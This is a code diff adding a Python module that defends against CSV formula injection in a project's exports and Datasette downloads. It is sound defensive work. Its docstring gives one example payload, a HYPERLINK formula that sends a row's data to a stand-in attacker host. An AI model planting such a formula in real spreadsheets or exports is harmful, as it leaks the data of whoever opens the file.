@@ -1,0 +1,99 @@
+"""CSV cells that cannot run: formula injection neutralised in every CSV the project writes.
+
+A statement's title or text is written by whoever runs the site it came from. A cell that
+starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to a spreadsheet
+program (`=HYPERLINK("http://evil.example/?"&A2,"click")` sends the row away). As OWASP
+recommends, such a cell is written with a leading `'`, which spreadsheets show as text. The
+database keeps the original; only the CSV copy is changed. Plain numbers (`-5`, `+3.2`)
+are left alone: they are not formulas.
+
+`inert` serves the snapshots (archive/export.py); `InertCsv` wraps Datasette's ASGI app so
+its own CSV downloads (`.csv`, `?_stream=on`) get the same treatment, streamed.
+"""
+
+from __future__ import annotations
+
+import codecs
+import csv
+import io
+import re
+from collections.abc import Awaitable, Callable, Iterable, Sequence
+from typing import Any
+
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def inert(value: Any) -> Any:
+    """The cell as a spreadsheet will only ever show it: text starting with a formula
+    trigger gets a leading `'`; everything else is returned unchanged."""
+    if isinstance(value, str) and value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def inert_row(row: Sequence[Any]) -> list[Any]:
+    return [inert(value) for value in row]
+
+
+# -- Datasette's CSV -------------------------------------------------------------------------
+
+Scope = dict[str, Any]
+Message = dict[str, Any]
+Receive = Callable[[], Awaitable[Message]]
+Send = Callable[[Message], Awaitable[None]]
+App = Callable[[Scope, Receive, Send], Awaitable[None]]
+
+
+def _record_end(text: str) -> int:
+    """Where the last complete CSV record of `text` ends (0: none complete yet)."""
+    end = text.rfind("\n")
+    # A newline ends a record where the quotes before it are balanced (an escaped quote
+    # is two quotes, so parity still tells).
+    while end != -1 and text.count('"', 0, end) % 2:
+        end = text.rfind("\n", 0, end)
+    return end + 1
+
+
+def _rewrite(text: str) -> str:
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\r\n")
+    for row in csv.reader(io.StringIO(text, newline="")):
+        writer.writerow(inert_row(row))
+    return out.getvalue()
+
+
+class InertCsv:
+    """ASGI middleware: every CSV response of the app (a path ending `.csv`) is rewritten
+    record by record as it streams, its cells made inert; other responses pass untouched."""
+
+    def __init__(self, app: App) -> None:
+        self.app = app
+
+    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
+        if scope.get("type") != "http" or not str(scope.get("path", "")).endswith(".csv"):
+            await self.app(scope, receive, send)
+            return
+        decoder = codecs.getincrementaldecoder("utf-8")("replace")
+        pending = ""
+        rewriting = False
+
+        async def send_inert(message: Message) -> None:
+            nonlocal pending, rewriting
+            if message["type"] == "http.response.start":
+                rewriting = int(message.get("status", 200)) == 200
+                if rewriting:  # the length changes: let the server chunk it
+                    headers: Iterable[tuple[bytes, bytes]] = message.get("headers", [])
+                    message = {
+                        **message,
+                        "headers": [(k, v) for k, v in headers if k.lower() != b"content-length"],
+                    }
+            elif message["type"] == "http.response.body" and rewriting:
+                more = message.get("more_body", False)
+                pending += decoder.decode(message.get("body", b""), final=not more)
+                end = len(pending) if not more else _record_end(pending)
+                chunk, pending = pending[:end], pending[end:]
+                message = {**message, "body": _rewrite(chunk).encode("utf-8") if chunk else b""}
+            await send(message)
+
+        await self.app(scope, receive, send_inert)
